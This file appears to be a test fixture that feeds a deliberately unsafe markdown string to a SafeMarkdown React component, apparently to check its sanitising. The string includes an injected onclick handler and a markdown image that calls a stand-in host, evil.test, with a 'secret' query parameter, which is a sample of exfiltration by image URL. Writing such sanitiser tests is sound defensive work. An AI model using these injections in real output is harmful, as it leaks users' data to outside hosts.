import { SafeMarkdown } from '@glovebox/react'
import { createElement } from 'react'

const unsafeText = [
  '# Heading of the message',
  '',
  'Some **strong words**, a [safe link](https://example.com/page) and <b onclick="x()">bold</b>.',
  '',
  '![words of the image](https://evil.test/?secret=1)',
  '',
  '| a | b |',
  '| - | - |',
  '| cell of the table | 2 |',
].join('\n')

/** The message that every way of rendering in this check shows. */
export const message = createElement(SafeMarkdown, null, unsafeText)
